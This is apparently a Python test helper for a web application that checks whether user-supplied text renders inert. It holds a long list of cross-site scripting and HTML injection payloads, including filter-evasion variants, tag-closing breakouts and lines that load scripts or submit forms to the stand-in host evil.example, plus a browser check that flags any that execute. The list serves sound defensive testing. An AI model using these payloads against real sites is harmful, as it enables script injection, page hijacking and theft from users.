"""Texts that would run a script, load a file or change a page, if the site took them for HTML."""

from typing import Any

RUN = "window.marker=1"
PAYLOADS = (
    # Elements that run or load something.
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT>",
    f"<script>{RUN}//",
    "<script src=//evil.example/x.js></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<iframe srcdoc='<script>parent.{RUN[7:]}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN[7:]}>",
    "<object data=data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+></object>",
    "<embed src=//evil.example/x.swf>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mi xlink:href=javascript:{RUN}>x</mi></math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    # Event handlers.
    f"<img src=x onerror={RUN}>",
    f"<img src=x oNeRrOr={RUN}//",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"' autofocus onfocus='{RUN}",
    f'" onmouseover="{RUN}',
    f"x`onpointerenter={RUN}",
    # Addresses.
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](java&#x09;script:{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x](javascript&colon;{RUN})",
    f"[x](\x01javascript:{RUN})",
    "[x](vbscript:msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQubWFya2VyPTE8L3NjcmlwdD4=)",
    f"<javascript:{RUN}>",
    f"[x]\n\n[x]: javascript:{RUN} 'title'",
    f"![x](javascript:{RUN})",
    f"![x](data:image/svg+xml,<svg onload={RUN}>)",
    f"![x](/static/img/favicon.svg 'a\" onerror=\"{RUN}')",
    f"[x](https://example.com '\" onmouseover=\"{RUN}')",
    # Pages turned into something else.
    "<style>body{display:none}</style>",
    "<p style='position:fixed;inset:0;background:url(//evil.example/x)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><input type=submit>",
    "<form id=htmx><input name=process></form>",
    "# location\n\n## htmx\n\n### marker",
    f"<template><script>{RUN}</script></template>",
    # Ends of what surrounds the text.
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"```x' onload='{RUN}\n</code></pre><script>{RUN}</script>\n```",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\\<script>{RUN}\\</script>",
    f"{{% 1 %}}${{{RUN}}}#{{{RUN}}}",
)

# Fires what a payload may wait for, and returns what a browser could run, load or send.
FIND_DANGERS = """() => {
  const found = [];
  const events = ["error", "load", "focus", "mouseover", "pointerenter", "toggle", "begin", "animationstart"];
  for (const element of document.querySelectorAll("*")) {
    for (const name of events) element.dispatchEvent(new Event(name));
    for (const attribute of element.attributes) {
      const value = attribute.value.replace(/[\\x00-\\x20]/g, "").toLowerCase();
      if (attribute.name.startsWith("on") || attribute.name == "style") found.push(element.outerHTML);
      if (/^(javascript|vbscript|data):/.test(value) && /href|src|action|data$/.test(attribute.name))
        found.push(element.outerHTML);
    }
  }
  const elements = "iframe, object, embed, base, math, style, template, video, link[href^='//'], " +
    "meta[http-equiv], svg :not(use), form[action^='//'], form#htmx, script:not([src]):not([type$='json'])";
  found.push(...Array.from(document.querySelectorAll(elements), element => element.outerHTML));
  if (window.marker !== undefined && !(window.marker instanceof Element)) found.push("a script has run");
  if (getComputedStyle(document.body).display == "none") found.push("the page is hidden");
  return found;
}"""


def assert_inert(page: Any, address: str) -> None:
    """Open the page and fail if a payload is anything but text."""
    response = page.goto(address)
    assert response.status < 500, address
    assert (address, page.evaluate(FIND_DANGERS)) == (address, [])
